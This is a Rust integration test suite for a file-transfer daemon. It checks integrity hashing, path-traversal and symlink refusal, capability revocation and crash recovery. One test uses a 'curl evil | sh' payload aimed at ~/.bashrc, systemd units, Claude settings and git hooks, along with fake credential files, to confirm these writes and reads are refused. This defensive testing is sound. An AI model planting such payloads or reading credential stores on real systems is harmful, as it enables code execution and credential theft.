//! File transfer between two real daemons: integrity both ways, path policy on both ends
//! (`..`, symlinks out, sibling prefixes, denied paths), overwrite, capabilities, listing, and
//! a receiver killed mid-transfer leaving nothing under the destination name.
// Unix file modes, PTYs and POSIX shells: this suite runs on Linux and macOS; Windows is
// covered by the wine smoke test (scripts/test-windows).
#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests: a panic is the failure report

mod common;

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use common::{TestHome, kill9, pair, wait_until};
use serde_json::Value;

/// A started daemon whose transfers are confined to `root`.
fn started(name: &str, root: &Path) -> TestHome {
    let h = TestHome::new();
    h.ok(&["init", "--name", name]);
    let cfg = format!(
        "[node]\nname = \"{name}\"\n[mesh]\nlisten_port = 0\nlocal_only = true\n[files]\nallowed_paths = [\"{}\"]\ndenied_paths = [\"{}/secret\"]\n",
        root.display(),
        root.display()
    );
    std::fs::write(h.path().join("config.toml"), cfg).unwrap();
    h.ok(&["start"]);
    h
}

fn data(n: usize) -> Vec<u8> {
    (0..n)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect()
}

#[test]
fn push_pull_and_list_with_integrity() {
    let (ra, rb) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = started("alpha", ra.path());
    let b = started("beta", rb.path());
    pair(&a, &b);
    let content = data(5_000_000);
    std::fs::write(ra.path().join("in.bin"), &content).unwrap();

    let out: Value = serde_json::from_str(&a.ok(&[
        "cp",
        "--json",
        &ra.path().join("in.bin").display().to_string(),
        &format!("beta:{}/", rb.path().display()),
    ]))
    .unwrap();
    assert_eq!(out["bytes"], 5_000_000);
    assert_eq!(std::fs::read(rb.path().join("in.bin")).unwrap(), content);
    assert_eq!(out["blake3"], blake3::hash(&content).to_hex().to_string());

    a.ok(&[
        "cp",
        &format!("beta:{}/in.bin", rb.path().display()),
        &ra.path().join("back.bin").display().to_string(),
    ]);
    assert_eq!(std::fs::read(ra.path().join("back.bin")).unwrap(), content);

    let ls: Value =
        serde_json::from_str(&a.ok(&["ls", "--json", &format!("beta:{}", rb.path().display())]))
            .unwrap();
    let names: Vec<&str> = ls["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["in.bin"]);

    // Existing files are kept unless asked.
    let err = a.fails(&[
        "cp",
        &ra.path().join("in.bin").display().to_string(),
        &format!("beta:{}/in.bin", rb.path().display()),
    ]);
    assert!(err.contains("exists") && err.contains("overwrite"), "{err}");
    std::fs::write(ra.path().join("in.bin"), b"new").unwrap();
    a.ok(&[
        "cp",
        "--overwrite",
        &ra.path().join("in.bin").display().to_string(),
        &format!("beta:{}/in.bin", rb.path().display()),
    ]);
    assert_eq!(std::fs::read(rb.path().join("in.bin")).unwrap(), b"new");
}

#[test]
fn paths_outside_the_policy_are_refused_on_both_ends() {
    let (ra, rb) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (share_a, share_b) = (ra.path().join("share"), rb.path().join("share"));
    for d in [&share_a, &share_b] {
        std::fs::create_dir_all(d.join("secret")).unwrap();
        std::fs::create_dir_all(d.parent().unwrap().join("share-evil")).unwrap();
        std::fs::write(d.join("ok.txt"), b"ok").unwrap();
        std::fs::write(d.join("secret/key"), b"k").unwrap();
        std::fs::write(d.parent().unwrap().join("share-evil/x"), b"x").unwrap();
        std::fs::write(d.parent().unwrap().join("outside"), b"o").unwrap();
        std::os::unix::fs::symlink(d.parent().unwrap().join("outside"), d.join("escape")).unwrap();
    }
    let a = started("alpha", &share_a);
    let b = started("beta", &share_b);
    pair(&a, &b);
    let sb = share_b.display().to_string();
    let sa = share_a.display().to_string();

    // Pull: the remote (beta) refuses.
    for (src, want) in [
        (format!("{sb}/../outside"), "outside files.allowed_paths"),
        (format!("{sb}/escape"), "outside files.allowed_paths"),
        (format!("{sb}-evil/x"), "outside files.allowed_paths"),
        (format!("{sb}/secret/key"), "files.denied_paths"),
        (format!("{sb}/nope"), "does not exist"),
    ] {
        let err = a.fails(&["cp", &format!("beta:{src}"), &format!("{sa}/got")]);
        assert!(err.contains(want), "pull {src}: {err}");
    }
    // Pull: the local end (alpha) refuses to write outside its own policy.
    let err = a.fails(&[
        "cp",
        &format!("beta:{sb}/ok.txt"),
        &format!("{sa}-evil/got"),
    ]);
    assert!(err.contains("outside files.allowed_paths"), "{err}");
    let err = a.fails(&[
        "cp",
        &format!("beta:{sb}/ok.txt"),
        &format!("{sa}/secret/got"),
    ]);
    assert!(err.contains("files.denied_paths"), "{err}");

    // Push: the local end refuses to read, the remote refuses to write.
    let err = a.fails(&["cp", &format!("{sa}/escape"), &format!("beta:{sb}/got")]);
    assert!(err.contains("outside files.allowed_paths"), "{err}");
    // (--overwrite, so that the symlink is not refused for merely existing.)
    for (dest, why) in [
        (format!("{sb}/../got"), "outside files.allowed_paths"),
        (format!("{sb}-evil/got"), "outside files.allowed_paths"),
        (format!("{sb}/secret/got"), "files.denied_paths"),
        (format!("{sb}/escape"), "outside files.allowed_paths"),
    ] {
        let err = a.fails(&[
            "cp",
            "--overwrite",
            &format!("{sa}/ok.txt"),
            &format!("beta:{dest}"),
        ]);
        assert!(err.contains(why), "push {dest}: {err}");
    }
    assert!(
        share_b.join("escape").is_symlink(),
        "the symlink itself was not replaced"
    );
    assert_eq!(
        std::fs::read(share_b.parent().unwrap().join("outside")).unwrap(),
        b"o",
        "nor what it points to"
    );
    assert!(!share_b.parent().unwrap().join("got").exists());
    assert!(!share_b.parent().unwrap().join("share-evil/got").exists());
    assert_eq!(
        std::fs::read(share_b.parent().unwrap().join("outside")).unwrap(),
        b"o",
        "nothing written through the symlink"
    );
}

#[test]
fn capabilities_gate_files() {
    let (ra, rb) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = started("alpha", ra.path());
    let b = started("beta", rb.path());
    pair(&a, &b);
    std::fs::write(ra.path().join("f"), b"x").unwrap();
    std::fs::write(rb.path().join("g"), b"y").unwrap();
    b.ok(&["peers", "revoke", "alpha", "files-write"]);
    let err = a.fails(&[
        "cp",
        &ra.path().join("f").display().to_string(),
        &format!("beta:{}/f", rb.path().display()),
    ]);
    assert!(err.contains("files-write"), "{err}");
    b.ok(&["peers", "revoke", "alpha", "files-read"]);
    let err = a.fails(&[
        "cp",
        &format!("beta:{}/g", rb.path().display()),
        &ra.path().join("g").display().to_string(),
    ]);
    assert!(err.contains("files-read"), "{err}");
    let err = a.fails(&["ls", &format!("beta:{}", rb.path().display())]);
    assert!(err.contains("files-read"), "{err}");
}

#[test]
fn a_receiver_killed_mid_transfer_leaves_no_file_under_the_destination_name() {
    let (ra, rb) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = started("alpha", ra.path());
    let b = started("beta", rb.path());
    pair(&a, &b);
    std::fs::write(ra.path().join("big.bin"), data(400 * 1024 * 1024)).unwrap();
    let pid = b.pid();
    let cp = a
        .cmd(&[
            "cp",
            "--json",
            &ra.path().join("big.bin").display().to_string(),
            &format!("beta:{}/big.bin", rb.path().display()),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until bytes are landing in beta's .part file, then kill beta hard.
    wait_until("transfer under way", Duration::from_secs(20), || {
        landing(rb.path())
    });
    kill9(pid);
    assert!(
        !rb.path().join("big.bin").exists(),
        "a partial file appeared under the destination name"
    );
    // beta comes back; the copy that was running retries and resumes where it stopped.
    b.ok(&["start"]);
    let o = cp.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(out["resumed_from"].as_u64().unwrap() > 0, "{out}");
    assert!(out["attempts"].as_u64().unwrap() > 1, "{out}");
    assert_eq!(
        blake3::hash(&std::fs::read(rb.path().join("big.bin")).unwrap())
            .to_hex()
            .to_string(),
        out["blake3"].as_str().unwrap()
    );
}

/// Whether bytes are landing in a `.part` file in `dir`.
fn landing(dir: &Path) -> bool {
    std::fs::read_dir(dir).unwrap().flatten().any(|e| {
        e.file_name().to_string_lossy().ends_with(".part")
            && e.metadata().map(|m| m.len() > 0).unwrap_or(false)
    })
}

/// A capability revoked while a transfer that needs it runs ends that transfer at once, both
/// ways, with the reason, and nothing lands under the destination name.
#[test]
fn revoking_files_mid_transfer_ends_it_at_once() {
    let (ra, rb) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = started("alpha", ra.path());
    let b = started("beta", rb.path());
    pair(&a, &b);
    let size = 400 * 1024 * 1024;
    std::fs::write(ra.path().join("up.bin"), data(size)).unwrap();
    std::fs::write(rb.path().join("down.bin"), data(size)).unwrap();
    for (src, dest, dest_dir, cap) in [
        (
            ra.path().join("up.bin").display().to_string(),
            format!("beta:{}/up.bin", rb.path().display()),
            rb.path().to_path_buf(),
            "files-write",
        ),
        (
            format!("beta:{}/down.bin", rb.path().display()),
            ra.path().join("got.bin").display().to_string(),
            ra.path().to_path_buf(),
            "files-read",
        ),
    ] {
        let cp = a
            .cmd(&["cp", &src, &dest])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        wait_until("transfer under way", Duration::from_secs(20), || {
            landing(&dest_dir)
        });
        b.ok(&["peers", "revoke", "alpha", cap]);
        let t0 = std::time::Instant::now();
        let o = cp.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!o.status.success(), "{cap}: the transfer finished anyway");
        assert!(err.contains(cap), "{cap}: {err}");
        assert!(
            t0.elapsed() < Duration::from_secs(5),
            "{cap}: ended {:?} after the revocation",
            t0.elapsed()
        );
        let dest_name = if cap == "files-write" {
            "up.bin"
        } else {
            "got.bin"
        };
        assert!(
            !dest_dir.join(dest_name).exists(),
            "{cap}: a file landed under the destination name"
        );
    }
}

/// A daemon with the default `[files]` policy whose home directory is `home`.
fn started_at_home(name: &str, home: &Path, extra: &str) -> TestHome {
    let h = TestHome::new();
    h.ok(&["init", "--name", name]);
    let cfg =
        format!("[node]\nname = \"{name}\"\n[mesh]\nlisten_port = 0\nlocal_only = true\n{extra}");
    std::fs::write(h.path().join("config.toml"), cfg).unwrap();
    let o = h.cmd(&["start"]).env("HOME", home).output().unwrap();
    assert!(o.status.success(), "{o:?}");
    h
}

#[test]
fn default_policy_keeps_start_up_files_hooks_and_credentials_from_peers() {
    let (ra, home_b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = started("alpha", ra.path());
    let b = started_at_home("beta", home_b.path(), "");
    pair(&a, &b);
    let hb = home_b.path();
    for d in [
        ".config/systemd/user",
        ".claude",
        "src/app/.git/hooks",
        ".config/gh",
    ] {
        std::fs::create_dir_all(hb.join(d)).unwrap();
    }
    for (f, body) in [
        (".bashrc", "# mine\n"),
        (".git-credentials", "https://u:tok@github.com\n"),
        (".config/gh/hosts.yml", "oauth_token: x\n"),
        (".claude/settings.json", "{}\n"),
    ] {
        std::fs::write(hb.join(f), body).unwrap();
    }
    let payload = ra.path().join("payload");
    std::fs::write(&payload, "curl evil | sh\n").unwrap();
    let src = payload.display().to_string();
    // Writes that would run code on beta are refused, by beta, naming the rule.
    for dest in [
        "~/.bashrc",
        "~/.profile",
        "~/.config/systemd/user/evil.service",
        "~/.claude/settings.json",
        "~/src/app/.git/hooks/pre-commit",
    ] {
        let err = a.fails(&["cp", "--overwrite", &src, &format!("beta:{dest}")]);
        assert!(
            err.contains("beta refused") && err.contains("never written"),
            "push {dest}: {err}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(hb.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!hb.join(".profile").exists());
    assert!(!hb.join("src/app/.git/hooks/pre-commit").exists());
    // Credential stores are not read.
    for f in ["~/.git-credentials", "~/.config/gh/hosts.yml"] {
        let err = a.fails(&["cp", &format!("beta:{f}"), &ra.path().display().to_string()]);
        assert!(err.contains("files.denied_paths"), "pull {f}: {err}");
    }
    // Ordinary files still move.
    a.ok(&["cp", &src, "beta:~/notes.txt"]);
    assert_eq!(
        std::fs::read_to_string(hb.join("notes.txt")).unwrap(),
        "curl evil | sh\n"
    );
    // The settings are readable (only writing them runs code).
    a.ok(&[
        "cp",
        "beta:~/.claude/settings.json",
        &ra.path().join("got.json").display().to_string(),
    ]);
}

#[test]
fn doctor_warns_when_a_default_protection_is_taken_out() {
    let home = tempfile::tempdir().unwrap();
    let h = started_at_home(
        "beta",
        home.path(),
        "[files]\nwrite_denied_paths = [\"~/.profile\"]\n",
    );
    let out = h.run(&["doctor"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("files.write_denied_paths no longer lists ~/.bashrc")
            && text.contains("files-write"),
        "{text}"
    );
}
